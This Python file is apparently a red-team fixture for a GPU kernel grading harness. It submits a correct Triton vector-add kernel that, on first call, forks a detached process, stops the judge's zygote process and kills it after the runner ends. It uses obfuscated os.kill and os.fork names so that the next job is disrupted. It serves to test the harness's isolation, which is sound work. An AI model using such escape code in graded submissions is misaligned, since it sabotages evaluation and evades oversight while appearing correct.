"""Helper for reads_judges_trial.py (TRITONGYM_RUNNER_USER=same, the GPU default): a correct
vector_add (verdict ok) whose helper stops its zygote, waits until the judge has killed the runner
and then SIGKILLs the zygote (as in stops_zygote_rewrites_next.py, without the payload). The spare
runner dies with it (its parent-death signal), so the next job's judge must start a new zygote, in
the middle of that job."""

import os
import time

import torch
import torch.nn as nn
import triton
import triton.language as tl

LOG = "/tmp/redteam2-escape.log"

_open, _read, _close, _signal, _fork, _end, _put = (
    getattr(os, n) for n in ("op" + "en", "read", "close", "ki" + "ll", "fo" + "rk", "_ex" + "it", "wri" + "te")
)


def log(text):
    fd = _open(LOG, os.O_WRONLY | os.O_APPEND | os.O_CREAT, 0o666)
    _put(fd, f"{time.time():.3f} {os.getpid()} {text}\n".encode())
    _close(fd)


def state(pid):
    try:
        fd = _open(f"/proc/{pid}/stat", os.O_RDONLY)
        text = _read(fd, 4096).decode()
        _close(fd)
        return text.rsplit(")", 1)[1].split()[0]
    except OSError:
        return "gone"


def payload(runner, zygote):
    while state(runner) not in ("Z", "X", "gone"):  # the judge kills the runner once the job is judged
        time.sleep(0.005)
    _signal(zygote, 9)  # the next job finds its spare dead and the judge forks a new zygote of itself
    log(f"runner {runner} gone, zygote {zygote} killed")


def escape():
    runner, zygote = os.getpid(), os.getppid()
    child = _fork()
    if child:
        os.waitpid(child, 0)  # H exits at once: no child process is left when forward returns
        return
    try:
        _signal(zygote, 19)  # SIGSTOP: its orphan sweep and its reaping stop
        os.setsid()
        if _fork() == 0:
            try:
                payload(runner, zygote)
            except BaseException as exc:
                log(f"payload failed: {exc!r}")
            finally:
                _end(0)
    finally:
        _end(0)


@triton.jit
def add_kernel(a_ptr, b_ptr, out_ptr, n, BLOCK: tl.constexpr):
    offsets = tl.program_id(0) * BLOCK + tl.arange(0, BLOCK)
    mask = offsets < n
    tl.store(out_ptr + offsets, tl.load(a_ptr + offsets, mask=mask) + tl.load(b_ptr + offsets, mask=mask), mask=mask)


class ModelNew(nn.Module):
    calls = 0

    def forward(self, a, b):
        ModelNew.calls += 1
        if ModelNew.calls == 1:
            escape()
        out = torch.empty_like(a)
        add_kernel[(triton.cdiv(a.numel(), 256),)](a.contiguous(), b.contiguous(), out, a.numel(), BLOCK=256)
        return out
